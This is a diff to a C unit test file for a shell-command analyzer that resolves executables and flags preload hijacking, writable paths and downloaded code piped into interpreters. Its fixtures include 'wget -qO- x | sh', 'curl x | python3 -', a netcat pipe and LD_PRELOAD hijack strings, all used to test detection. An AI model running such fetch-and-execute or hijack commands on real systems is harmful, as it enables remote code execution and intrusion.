@@ -28,7 +28,7 @@ static int setup(void **state)
 	tree_file(trial->root, "usr/local/bin/new", "#!/bin/sh\necho\n");
 	tree_file(trial->root, "usr/bin/planted", "#!/bin/sh -e\nwget -qO- x | sh\n");
 	tree_file(trial->root, "usr/bin/pyplant",
-		  "#!/usr/bin/env python3\nimport socket, subprocess\n");
+		  "#!/usr/bin/env python3\nimport socket, os\nos.dup2(1, 2)\n");
 	tree_file(trial->root, "home/u/x", "#!/bin/sh\n");
 	return 0;
 }
@@ -103,6 +103,18 @@ static const struct row rows[] = {
 	{WORDS_SHELL, "cat <<EOF >/x\n/tmp/x\nEOF\ntrue", 0, "/usr/bin/true "},
 	{WORDS_SHELL, "X=$(/tmp/x) Y=1 true", T | M, "/usr/bin/true /tmp/x "},
 	{WORDS_SHELL, "export LD_PRELOAD=/x", JUDGED_PRELOAD, ""},
+	{WORDS_SHELL, "export LD_PRELOAD=/usr/bin/true", 0, ""},
+	{WORDS_SHELL, "LD_PRELOAD=\"/usr/bin/true /usr/local/bin/new\" true", JUDGED_PRELOAD,
+	 "/usr/bin/true "},
+	{WORDS_SHELL, "LD_PRELOAD=libnone.so true", JUDGED_PRELOAD, "/usr/bin/true "},
+	{WORDS_SHELL, "LD_LIBRARY_PATH=/opt/x/lib true", 0, "/usr/bin/true "},
+	{WORDS_SHELL, "LD_LIBRARY_PATH=/opt:/tmp/x true", JUDGED_PRELOAD, "/usr/bin/true "},
+	{WORDS_SHELL, "curl x | python3 -m json.tool", 0, "/usr/bin/curl /usr/bin/python3 "},
+	{WORDS_SHELL, "curl x | python3 -c 'import json'", 0, "/usr/bin/curl /usr/bin/python3 "},
+	{WORDS_SHELL, "curl x | python3 -", D, "/usr/bin/curl /usr/bin/python3 "},
+	{WORDS_SHELL, "sh /usr/bin/true | nc h 1", 0, "/usr/bin/sh /usr/bin/true "},
+	{WORDS_SHELL, "sh -o pipefail /opt/loose", JUDGED_WRITABLE, "/usr/bin/sh /opt/loose "},
+	{WORDS_EXEC, "/opt/app/.venv/bin/python", M, "/opt/app/.venv/bin/python "},
 	{WORDS_SHELL, ". /usr/local/bin/new", U, "/usr/local/bin/new "},
 	{WORDS_SHELL, "su - u -c '/tmp/x y'", T | M, "/tmp/x "},
 	{WORDS_SHELL, "find / -exec /tmp/x {} +", T | M, "/tmp/x "},
